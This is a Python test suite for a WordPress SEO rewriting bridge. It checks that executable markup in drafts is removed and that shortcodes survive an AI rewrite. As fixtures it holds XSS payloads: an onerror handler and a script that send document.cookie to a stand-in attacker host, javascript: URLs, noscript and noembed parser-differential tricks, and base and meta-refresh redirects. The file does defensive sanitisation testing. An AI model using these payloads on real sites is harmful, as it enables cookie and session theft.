"""End to end: nothing executable from a draft reaches WordPress, and no shortcode is ever lost.

Drafts are written into the real WordPress started by the suite; the bridge rewrites them with
the fake model (through the real ``openai`` SDK) and the tests read back what WordPress stored.
"""

from __future__ import annotations

import json
import re

import pytest
import requests

from wp_seo_bridge.bridge import rewrite_post
from wp_seo_bridge.content import Placeholder, parse
from wp_seo_bridge.journal import Journal
from tests.support.fake_openai import CHAT, FakeOpenAI, answer
from tests.test_rewrite_wordpress import cli_env, run_cli

API_KEY = "sk-test-draft-safety"
LENIENT = {"rewrite__min_words": 50, "quality__min_seo_rating": "bad", "quality__min_readability_rating": "bad"}

IMAGE = ('<img src="https://medias.example/ecole.jpg" onerror="fetch(\'https://collecte.example/\'+document.cookie)" '
         'alt="Une école du quartier" width="640" height="360">')
CLEAN_IMAGE_ATTRIBUTES = {"src": "https://medias.example/ecole.jpg", "alt": "Une école du quartier", "width": "640",
                          "height": "360"}
SCRIPT = "<script>document.location='https://collecte.example/?c='+document.cookie</script>"
INTRO = "Le conseil municipal a voté mardi soir le budget de la rénovation des écoles, après un long débat."
WORKS = "Les travaux commenceront pendant les vacances d’été. Les parents d’élèves seront informés par courrier."
HEADING = "Un chantier attendu"
CALENDAR = ('Selon l’adjoint chargé de l’éducation, <a href="javascript:alert(document.domain)">le calendrier</a> sera '
            "publié en ligne. Les associations de parents saluent une décision attendue depuis longtemps.")
VOTE = ("Le vote a réuni une large majorité des élus présents, malgré les réserves de l’opposition sur le coût global "
        "du programme de rénovation.")


def security_draft(form: str) -> str:
    if form == "classic":
        return (f"<p>{INTRO}</p>\n{SCRIPT}\n<p>{IMAGE} {WORKS}</p>\n\n<h2>{HEADING}</h2>\n\n<p>{CALENDAR}</p>\n\n"
                f"<p>{VOTE}</p>\n")

    def paragraph(html: str) -> str:
        return f"<!-- wp:paragraph -->\n<p>{html}</p>\n<!-- /wp:paragraph -->"

    return "\n\n".join([
        paragraph(INTRO),
        f"<!-- wp:html -->\n{SCRIPT}\n<!-- /wp:html -->",
        paragraph(f"{IMAGE} {WORKS}"),
        f"<!-- wp:heading -->\n<h2>{HEADING}</h2>\n<!-- /wp:heading -->",
        paragraph(CALENDAR),
        paragraph(VOTE),
    ]) + "\n"


def executable(markup: str) -> list[str]:
    """Scripts, event handlers and script URLs in stored markup, found by its bytes."""
    return (re.findall(r"<\s*script", markup, re.I) + re.findall(r"[\s\"'/]on[a-z]+\s*=", markup, re.I)
            + re.findall(r"(?:java|vb)script\s*:", markup, re.I))


def _block(kind: str, **fields) -> dict:
    return {"type": kind, "text": None, "items": None, "ordered": None, "citation": None, "ref": None, **fields}


def model_answer(document, *, keep_refs: bool = True, edit=lambda html: html) -> str:
    """The draft's text rewritten the way a careful model would (each paragraph opened differently, no new
    fact), with ``edit`` applied to each text (to lose or mangle tokens); placeholders placed if ``keep_refs``."""
    sections = [{"heading": None, "level": 2, "blocks": []}]
    for block in document.blocks:
        if isinstance(block, Placeholder):
            if keep_refs:
                sections[-1]["blocks"].append(_block("placeholder", ref=block.ref))
        elif block.kind == "heading":
            sections.append({"heading": edit(block.html), "level": 2, "blocks": []})
        elif block.kind == "list":
            sections[-1]["blocks"].append(_block("list", items=[edit(i) for i in block.items], ordered=block.ordered))
        else:
            text = edit(block.html)
            sections[-1]["blocks"].append(_block("paragraph", text=f"En bref, {text[0].lower()}{text[1:]}"))
    return json.dumps({
        "title": "Rénovation des écoles : le budget est voté",
        "seo_title": "Rénovation des écoles : le budget est voté",
        "meta_description": "Le conseil municipal a voté le budget de la rénovation des écoles ; les travaux commenceront "
                            "pendant les vacances d’été.",
        "focus_keyphrase": "rénovation des écoles",
        "slug": "renovation-ecoles-budget",
        "excerpt": "Le budget de la rénovation des écoles est voté.",
        "sections": sections,
    }, ensure_ascii=False)


@pytest.fixture
def model_server():
    with FakeOpenAI(api_key=API_KEY) as server:
        yield server


@pytest.fixture
def stored(wordpress):
    def read(post_id: int) -> dict:
        return wordpress.php_json(
            f"echo json_encode(array('content' => get_post({post_id})->post_content, "
            f"'record' => get_post_meta({post_id}, '_wp_seo_bridge_record', true)));"
        )

    return read


def test_wordpress_keeps_what_the_editor_writes_so_these_tests_can_fail(wordpress):
    """The editor has unfiltered_html: a script the bridge wrote would be stored as it is."""
    post_id = wordpress.create_post(post_title="Contrôle", post_content="<p>Texte.</p>")
    response = requests.post(
        f"{wordpress.url}/wp-json/wp/v2/posts/{post_id}",
        json={"content": f"<p>{IMAGE} Texte.</p>\n{SCRIPT}"},
        auth=(wordpress.editor_user, wordpress.editor_app_password),
        timeout=20,
    )
    assert response.status_code == 200, response.text[:300]
    content = wordpress.php(f"echo get_post({post_id})->post_content;")
    assert SCRIPT in content and "onerror=" in content


@pytest.mark.parametrize("form", ["classic", "blocks"])
@pytest.mark.parametrize("transport", ["rest", "xmlrpc"])
def test_no_script_handler_or_script_url_reaches_wordpress(wordpress, make_site, model_server, stored, tmp_path, form,
                                                            transport):
    draft = security_draft(form)
    post_id = wordpress.create_post(post_title="Les écoles rénovées", post_content=draft)
    model_server.queue(CHAT, answer(model_answer(parse(draft))))
    with make_site(model_base_url=model_server.base_url, api_key=API_KEY, model__max_retries=1, seo_plugin="yoast",
                   transport=transport, quality__max_repairs=0, **LENIENT) as site:
        with Journal(tmp_path / "journal.sqlite3") as journal:
            report = rewrite_post(site, post_id, journal=journal)
    assert report.written, report.verdict.reasons
    expected = "1 script element, 1 onerror attribute, 1 javascript: URL"
    assert str(report.removed_from_draft) == expected
    post = stored(post_id)
    content = post["content"]
    assert executable(content) == []
    # The inline image is its own kept element, clean; its paragraph's text is there once, rewritten.
    images = re.findall(r"<img [^>]*>", content)
    assert len(images) == 1
    assert dict(re.findall(r'(\w+)="([^"]*)"', images[0])) == CLEAN_IMAGE_ATTRIBUTES
    assert content.count("Les parents d’élèves seront informés par courrier.") == 1
    assert "En bref, les travaux commenceront" in content
    assert content.index(images[0]) < content.index("En bref, les travaux")
    assert json.loads(post["record"])["removed_from_draft"] == expected


TWEET = ('<blockquote class="twitter-tweet"><p lang="fr">Le budget des écoles est voté.</p>&mdash; Mairie (@mairie) '
         '<a href="https://twitter.com/mairie/status/1">avril 2024</a></blockquote> '
         '<script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>')
VIDEO_EMBED = ('<!-- wp:embed {"url":"https://video.example/v/42","type":"rich"} -->\n<figure class="wp-block-embed">'
               '<div class="wp-block-embed__wrapper">\nhttps://video.example/v/42\n<iframe src="https://video.example/'
               'embed/42" width="560" height="315"></iframe></div></figure>\n<!-- /wp:embed -->')
IMAGE_BLOCK = ('<!-- wp:image {"id":41,"sizeSlug":"large"} -->\n<figure class="wp-block-image size-large">'
               '<img src="https://medias.example/cour.jpg" alt="La cour" class="wp-image-41" onload="alert(1)"/></figure>\n'
               "<!-- /wp:image -->")


def widgets_draft() -> str:
    def paragraph(html: str) -> str:
        return f"<!-- wp:paragraph -->\n<p>{html}</p>\n<!-- /wp:paragraph -->"

    return "\n\n".join([
        paragraph(INTRO), f"<!-- wp:html -->\n{TWEET}\n<!-- /wp:html -->", paragraph(WORKS),
        f"<!-- wp:heading -->\n<h2>{HEADING}</h2>\n<!-- /wp:heading -->", VIDEO_EMBED, paragraph(VOTE), IMAGE_BLOCK,
    ]) + "\n"


@pytest.mark.parametrize("trusted", [[], ["platform.twitter.com", "video.example"]], ids=["default", "trusted"])
def test_widgets_are_kept_only_from_trusted_hosts_and_core_blocks_keep_their_comment(
    wordpress, make_site, model_server, stored, tmp_path, trusted
):
    draft = widgets_draft()
    post_id = wordpress.create_post(post_title="Les écoles et leurs widgets", post_content=draft)
    document = parse(draft, trusted_embed_hosts=trusted)
    model_server.queue(CHAT, answer(model_answer(document)))
    with make_site(model_base_url=model_server.base_url, api_key=API_KEY, model__max_retries=1, quality__max_repairs=0,
                   rewrite__trusted_embed_hosts=trusted, **LENIENT) as site:
        with Journal(tmp_path / "journal.sqlite3") as journal:
            report = rewrite_post(site, post_id, journal=journal)
    assert report.written, report.verdict.reasons
    content = stored(post_id)["content"]
    # A core block keeps its block comment and attributes; only its handler goes.
    assert content.count(IMAGE_BLOCK.replace(' onload="alert(1)"/>', ">")) == 1
    if trusted:
        assert content.count(f"<!-- wp:html -->\n{TWEET}\n<!-- /wp:html -->") == 1 and content.count(VIDEO_EMBED) == 1
        assert str(report.removed_from_draft) == "1 onload attribute"
    else:
        assert executable(content) == [] and "<iframe" not in content and "twitter-tweet" not in content
        assert content.count("https://video.example/v/42") == 2  # the embed's URL and its block comment stay
        assert str(report.removed_from_draft) == "1 custom HTML block, 1 script element, 1 iframe element, 1 onload attribute"


# -- shortcodes ------------------------------------------------------------------------------------

FOOTNOTE = "[footnote]Compte rendu du conseil municipal[/footnote]"
GALLERY = '[gallery ids="12,13,14" columns="3"]'
FORM = '[contact-form-7 id="1234" title="Inscription"]'
CAPTION = ('[caption id="attachment_7" align="alignnone" width="300"]<img class="size-medium wp-image-7" '
           'src="https://medias.example/carte.jpg" alt="Carte" width="300" height="200" /> La carte des écoles '
           "rénovées.[/caption]")
EMBED = "[embed]https://www.youtube.com/watch?v=dQw4w9WgXcQ[/embed]"
BADGE = "[badge]mis à jour[/badge]"


def shortcodes_draft(form: str) -> str:
    text_1 = f"{INTRO} Le détail figure au compte rendu {FOOTNOTE}."
    text_2 = f"{WORKS} Un {BADGE} calendrier sera affiché en mairie."
    if form == "classic":
        return (f"<p>{text_1}</p>\n\n<p>{GALLERY}</p>\n\n{CAPTION}\n\n<h2>{HEADING}</h2>\n\n{text_2}\n\n{EMBED}\n\n"
                f"{FORM}\n\n<p>{VOTE}</p>\n")

    def paragraph(html: str) -> str:
        return f"<!-- wp:paragraph -->\n<p>{html}</p>\n<!-- /wp:paragraph -->"

    return "\n\n".join([
        paragraph(text_1), paragraph(GALLERY), f"<!-- wp:shortcode -->\n{CAPTION}\n<!-- /wp:shortcode -->",
        f"<!-- wp:heading -->\n<h2>{HEADING}</h2>\n<!-- /wp:heading -->", paragraph(text_2), paragraph(EMBED),
        f"<!-- wp:shortcode -->\n{FORM}\n<!-- /wp:shortcode -->", paragraph(VOTE),
    ]) + "\n"


def assert_every_shortcode_once_in_order(content: str) -> None:
    kept = [FOOTNOTE, GALLERY, CAPTION, EMBED, FORM]
    for code in kept + [BADGE]:
        assert content.count(code) == 1, code
    positions = [content.index(code) for code in kept]
    assert positions == sorted(positions)
    assert "[[SC-" not in content and "[SC-" not in content


def lose_tokens(html: str) -> str:
    return re.sub(r" ?\[\[SC-\d+\]\]", "", html)


@pytest.mark.parametrize("form", ["classic", "blocks"])
def test_shortcodes_the_model_drops_are_asked_for_then_put_back_byte_identical(
    wordpress, make_site, model_server, stored, tmp_path, form
):
    draft = shortcodes_draft(form)
    document = parse(draft)
    assert len(document.shortcodes) == 2 and len(document.placeholders) == 4
    post_id = wordpress.create_post(post_title="Les écoles et leurs shortcodes", post_content=draft)
    # The model drops every kept element and every token, twice.
    lossy = model_answer(document, keep_refs=False, edit=lose_tokens)
    assert "[[SC-" not in lossy and "KEEP-" not in lossy
    model_server.queue(CHAT, answer(lossy), answer(lossy))
    with make_site(model_base_url=model_server.base_url, api_key=API_KEY, model__max_retries=1, quality__max_repairs=1,
                   **LENIENT) as site:
        with Journal(tmp_path / "journal.sqlite3") as journal:
            report = rewrite_post(site, post_id, journal=journal)
    assert report.written and report.attempts == 2, report.verdict.reasons
    repair = [r for r in model_server.requests if r.path == CHAT][1].body["messages"][-1]["content"]
    assert "[[SC-1]] (shortcode [footnote])" in repair and "[[SC-2]] (shortcode [badge])" in repair
    assert "(shortcode [gallery])" in repair and "(shortcode [contact-form-7])" in repair
    # What the model was shown: tokens and placeholders, never a shortcode as text.
    sent = [r for r in model_server.requests if r.path == CHAT][0].body["messages"][1]["content"]
    for code in (FOOTNOTE, GALLERY, CAPTION, EMBED, FORM, BADGE, "Compte rendu du conseil", "La carte des écoles",
                 "mis à jour", 'ids=\\"12'):
        assert code not in sent, code
    assert "[[SC-1]]" in sent and "[[SC-2]]" in sent
    assert_every_shortcode_once_in_order(stored(post_id)["content"])


def mangle_tokens(html: str) -> str:
    """A model that copies one token with single brackets, repeats another, and writes a shortcode of its own."""
    html = html.replace("[[SC-1]]", "[SC-1]")
    return html.replace("[[SC-2]]", "[[SC-2]] [[SC-2]]")


@pytest.mark.parametrize("form", ["classic", "blocks"])
def test_shortcodes_the_model_mangles_come_back_exactly_once(wordpress, make_site, model_server, stored, tmp_path, form):
    draft = shortcodes_draft(form)
    document = parse(draft)
    post_id = wordpress.create_post(post_title="Les écoles et leurs shortcodes", post_content=draft)
    mangled = model_answer(document, edit=mangle_tokens)
    invented = json.loads(model_answer(document))
    invented["sections"][0]["blocks"][0]["text"] += ' [gallery ids="99"]'
    model_server.queue(CHAT, answer(json.dumps(invented, ensure_ascii=False)), answer(mangled), answer(mangled))
    with make_site(model_base_url=model_server.base_url, api_key=API_KEY, model__max_retries=1, quality__max_repairs=2,
                   **LENIENT) as site:
        with Journal(tmp_path / "journal.sqlite3") as journal:
            report = rewrite_post(site, post_id, journal=journal)
    assert report.written and report.attempts == 3, report.verdict.reasons
    requests_sent = [r for r in model_server.requests if r.path == CHAT]
    first_repair = requests_sent[1].body["messages"][-1]["content"]
    assert 'writes shortcodes of its own: "[gallery ids="99"]"' in first_repair
    second_repair = requests_sent[2].body["messages"][-1]["content"]
    assert "[[SC-1]] (shortcode [footnote])" in second_repair and "more than once in your answer: [[SC-2]]" in second_repair
    content = stored(post_id)["content"]
    assert_every_shortcode_once_in_order(content)
    assert '[gallery ids="99"]' not in content


def test_the_rewrite_command_says_what_was_removed(wordpress, model_server, tmp_path):
    draft = security_draft("classic")
    post_id = wordpress.create_post(post_title="Les écoles rénovées", post_content=draft)
    model_server.queue(CHAT, answer(model_answer(parse(draft))))
    env = {**cli_env(wordpress, model_server, tmp_path), "OPENAI_API_KEY": API_KEY, "WP_SEO_BRIDGE_REWRITE_MIN_WORDS": "50",
           "WP_SEO_BRIDGE_QUALITY_MIN_SEO_RATING": "bad", "WP_SEO_BRIDGE_QUALITY_MIN_READABILITY_RATING": "bad",
           "WP_SEO_BRIDGE_QUALITY_MAX_REPAIRS": "0"}
    result = run_cli("rewrite", str(post_id), env=env)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "removed from the draft: 1 script element, 1 onerror attribute, 1 javascript: URL" in " ".join(result.stdout.split())


# -- what a browser reads differently, block attributes, elements that swallowed drafts -------------

NOSCRIPT = '<noscript><p title="</noscript><img src=x onerror=alert(31)>"></noscript>'
NOSCRIPT_COMMENT = "<noscript><!--</noscript><img src=x onerror=alert(32)>--></noscript>"
NOEMBED = '<noembed><p title="</noembed><img src=x onerror=alert(33)>"></noembed>'
SVG_STYLE = '<svg><style><img src=x onerror=alert(34)></style></svg>'


def differentials_draft(form: str) -> tuple[str, str]:
    """A draft with noscript tricks in every place kept markup can be, and what the bridge reports."""
    caption = (f'[caption id="attachment_7" width="300"]<img src="https://medias.example/carte.jpg" alt="Carte" /> '
               f"{NOSCRIPT} La carte des écoles.[/caption]")
    footnote = f"[footnote]{NOSCRIPT_COMMENT}Compte rendu[/footnote]"
    if form == "classic":
        draft = (f"<p>{INTRO}</p>\n\n<div class=\"encart\">{NOSCRIPT}<p>Encadré</p></div>\n\n{caption}\n\n"
                 f"<h2>{HEADING}</h2>\n\n<p>{WORKS} Le détail figure au compte rendu {footnote}.</p>\n\n"
                 f"<div>{NOEMBED}{SVG_STYLE}</div>\n\n"
                 f'<base href="https://collecte.example/">\n<p>{CALENDAR.replace("javascript:", "https:")}</p>\n'
                 f'<meta http-equiv="refresh" content="0;url=https://collecte.example/">\n<noscript>\n<p>{VOTE}</p>\n')
        # The "encart" div holds text: gone into, its noscript trick is read as it is outside a div (the image a
        # browser running scripts would show is kept, without its onerror).
        return draft, ("4 noscript elements, 3 onerror attributes, 1 noembed element, 1 style element, 1 base element, "
                       "1 meta http-equiv element")

    def paragraph(html: str) -> str:
        return f"<!-- wp:paragraph -->\n<p>{html}</p>\n<!-- /wp:paragraph -->"

    draft = "\n\n".join([
        paragraph(INTRO),
        f"<!-- wp:html -->\n{NOSCRIPT_COMMENT}<p>Encadré</p>\n<!-- /wp:html -->",
        '<!-- wp:image {"id":41} -->\n<figure class="wp-block-image"><img src="https://medias.example/cour.jpg" alt="La cour"'
        f' class="wp-image-41"/>{NOSCRIPT}<figcaption>La cour.</figcaption></figure>\n<!-- /wp:image -->',
        f'<!-- wp:table -->\n<figure class="wp-block-table"><table><tbody><tr><td>Écoles</td><td>{NOEMBED}12</td></tr>'
        "</tbody></table></figure>\n<!-- /wp:table -->",
        f"<!-- wp:shortcode -->\n{caption}\n<!-- /wp:shortcode -->",
        f"<!-- wp:heading -->\n<h2>{HEADING}</h2>\n<!-- /wp:heading -->",
        paragraph(f"{WORKS} Le détail figure au compte rendu {footnote}."),
        '<!-- wp:acme/cta {"url":"javascript:alert(1)","onclick":"alert(2)","label":"Lire"} /-->',
        '<!-- wp:acme/cta {"html":"<img src=x onerror=alert(3)>"} /-->',
        '<!-- wp:cover {"url":"javascript:alert(4)","dimRatio":50} -->\n<div class="wp-block-cover"><span aria-hidden="true" '
        'class="wp-block-cover__background has-background-dim"></span><div class="wp-block-cover__inner-container">'
        "</div></div>\n<!-- /wp:cover -->",
        '<base href="https://collecte.example/">',
        paragraph(VOTE),
    ]) + "\n"
    return draft, ("4 noscript elements, 1 noembed element, 2 onerror attributes, 2 javascript: URLs, "
                   "1 onclick block attribute, 1 base element")


def browser_readings(markup: str) -> list[str]:
    """What could run in ``markup`` read as a browser reads a page, scripting on and off."""
    from selectolax.lexbor import LexborHTMLParser

    found = []
    for scripting in (False, True):
        tree = LexborHTMLParser(f"<!DOCTYPE html><body><div>{markup}", scripting=scripting)
        for node in tree.root.traverse(include_text=False):
            if node.tag in ("script", "style", "noscript", "noembed", "base", "meta", "iframe", "object", "embed"):
                found.append(node.tag)
            found += [name for name in node.attributes if name.lower().startswith("on")]
    return found


@pytest.mark.parametrize("form", ["classic", "blocks"])
def test_no_parser_differential_or_block_attribute_reaches_wordpress(wordpress, make_site, model_server, stored, tmp_path,
                                                                     form):
    draft, expected = differentials_draft(form)
    post_id = wordpress.create_post(post_title="Les écoles rénovées", post_content=draft)
    # The editor could store it as it is: the test can fail.
    assert "noscript" in wordpress.php(f"echo get_post({post_id})->post_content;")
    document = parse(draft)
    assert str(document.removed) == expected
    model_server.queue(CHAT, answer(model_answer(document)))
    with make_site(model_base_url=model_server.base_url, api_key=API_KEY, model__max_retries=1, quality__max_repairs=0,
                   **LENIENT) as site:
        with Journal(tmp_path / "journal.sqlite3") as journal:
            report = rewrite_post(site, post_id, journal=journal)
    assert report.written, report.verdict.reasons
    assert str(report.removed_from_draft) == expected
    post = stored(post_id)
    content = post["content"]
    assert json.loads(post["record"])["removed_from_draft"] == expected
    for found in (content, wordpress.php(f"echo apply_filters('the_content', get_post({post_id})->post_content);")):
        assert browser_readings(found) == [], found
        assert not re.search(r"noscript|noembed|onerror|onclick|javascript:|collecte\.example|<base|http-equiv", found, re.I)
    # The text around each of them was rewritten, once.
    for text in (INTRO, WORKS, VOTE):
        assert content.count(f"En bref, {text[0].lower()}{text[1:60]}") == 1, text
    assert content.count("[caption") == 1 and "carte.jpg" in content and content.count("[footnote]Compte rendu") == 1
